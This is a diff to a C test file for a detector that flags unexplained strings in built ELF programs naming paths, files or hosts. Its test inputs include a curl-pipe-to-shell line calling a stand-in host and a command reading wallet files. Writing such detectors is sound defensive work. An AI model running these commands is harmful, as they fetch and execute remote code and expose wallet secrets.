@@ -1,5 +1,5 @@
 /*
- * match_elf_strings.c - which strings that stand nowhere lead out of the program: those with a word of no source in the very path, file or host.
+ * match_elf_strings.c - which strings that stand nowhere lead out of the program: those that name a path, a file or a host, and have a word of no source.
  *
  * Programs are built here by gcc and held against a source without the string.
  */
@@ -16,7 +16,7 @@ static const struct pl_foreign *noted(const char *text)
     struct pl_file *f =
         beside(built(program, ""), "letters.c",
                "#include <stdio.h>\nint main(void)\n{\n    puts(\"the letters are counted\");\n"
-               "    return puts(OTHER);\n}\n/* usage: known words and the folder of /tmp */\n");
+               "    return puts(OTHER);\n}\n/* usage: known words and the folder to build in, /tmp */\n");
     apply("elf.strings", f);
     assert_null(find(f, "file.unaccounted"));
     for (size_t i = 0; i < f->foreign.n; i++)
@@ -35,18 +35,20 @@ static bool leads_out(void **state, const char *text)
     return is_so;
 }
 
-static void a_word_of_no_source_in_a_path_a_file_or_a_host_leads_out(void **state)
+static void a_word_of_no_source_and_a_path_a_file_or_a_host_lead_out(void **state)
 {
     assert_true(leads_out(state, "/var/tmp/beacon"));
     assert_true(leads_out(state, "curl http://drop.invalid/stage | sh"));
     assert_true(leads_out(state, "cat $HOME/wallets"));
     assert_true(leads_out(state, "beacon.dll"));
+    assert_true(leads_out(state, "beaconing -s http://index"));
+    assert_false(leads_out(state, "beaconing of words"));
 }
 
-static void a_word_of_no_source_beside_a_known_path_does_not(void **state)
+static void a_tilde_between_the_letters_of_a_table_does_not(void **state)
 {
-    assert_false(leads_out(state, "usage: beaconing the folder of /tmp"));
     assert_false(leads_out(state, "beaconing~alpha"));
+    assert_true(leads_out(state, "~/beaconing"));
 }
 
 /* The folder of a build has six letters that nobody knows; what stands in it has to be known. */
@@ -69,9 +71,9 @@ static void the_name_of_a_made_source_does_not(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test_setup_teardown(a_word_of_no_source_in_a_path_a_file_or_a_host_leads_out, set_up,
+        cmocka_unit_test_setup_teardown(a_word_of_no_source_and_a_path_a_file_or_a_host_lead_out, set_up,
                                         end),
-        cmocka_unit_test_setup_teardown(a_word_of_no_source_beside_a_known_path_does_not, set_up, end),
+        cmocka_unit_test_setup_teardown(a_tilde_between_the_letters_of_a_table_does_not, set_up, end),
         cmocka_unit_test_setup_teardown(the_folder_of_a_build_does_not, set_up, end),
         cmocka_unit_test_setup_teardown(the_name_of_a_made_source_does_not, set_up, end),
     };
